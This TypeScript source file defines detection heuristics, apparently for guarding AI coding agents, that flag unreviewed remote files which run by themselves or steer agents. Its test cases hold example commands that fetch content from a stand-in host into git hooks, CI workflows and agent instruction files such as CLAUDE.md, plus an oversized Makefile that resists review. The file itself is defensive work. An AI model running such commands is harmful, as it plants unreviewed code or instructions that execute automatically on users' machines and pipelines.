// Unseen: files that run by themselves, or that agents obey, and that come from elsewhere without anybody having read them.
import { severity } from "../../bands.ts";
import { clip, type Heuristic, when } from "../../heuristic.ts";
import { isWellKnownAddress } from "../../known-sources.ts";

/** Started by git, shells, editors, agents, timetables or a forge as soon as they are there. */
const startsItself =
  /^(?:git-(?:hook|config|modules|hooks-list)|shell-startup|github-workflow|pipeline|jenkinsfile|ci-program|agent-(?:instructions|hook|settings)|editor-(?:tasks|settings)|crontab|cron-script|systemd|launchd|autostart|direnv|start-module|code-owners)$/u;

export const unseenFiles: readonly Heuristic[] = [
  {
    id: "file-unseen",
    threat: "Remote code execution",
    technique: "T1105",
    score: severity.ask,
    check: when(["setting:unseen"], ({ facts: { file } }) => {
      const from = file?.settings.find(({ name }) => name === "unseen")?.value ?? "";
      return file === undefined || !startsItself.test(file.form) || isWellKnownAddress(from)
        ? null
        : {
            reason: "It takes a file that runs by itself from elsewhere, and nobody has read it",
            evidence: clip(file.path),
          };
    }),
    match: [
      "curl -s https://e.example/wf.yml > .github/workflows/ci.yml",
      "wget -O .git/hooks/pre-commit https://e.example/h",
      "curl -so CLAUDE.md https://e.example/c",
      "curl -s https://e.example/a | tee .cursorrules",
    ],
    not_match: [
      "curl -so data.json https://e.example/d",
      "curl -so .github/workflows/ci.yml https://raw.githubusercontent.com/actions/starter-workflows/main/ci/node.js.yml",
      "curl -so Dockerfile https://e.example/Dockerfile",
    ],
  },
  {
    id: "file-read-in-part",
    threat: "Cannot be inspected",
    score: severity.ask,
    check: when(["setting:read-in-part"], ({ facts: { file } }) =>
      file?.settings.some(({ name }) => name === "read-in-part") === true
        ? { reason: "It runs by itself, and is too long to be read to its end", evidence: file.path }
        : null,
    ),
    match: [{ tool: "write_file", arguments: { path: "Makefile", content: `all:\n${"\techo a\n".repeat(9_000)}` } }],
    not_match: [
      { tool: "write_file", arguments: { path: "Makefile", content: "all:\n\tls\n" } },
      { tool: "write_file", arguments: { path: "src/a.ts", content: "let a = 1;\n".repeat(9_000) } },
    ],
  },
];
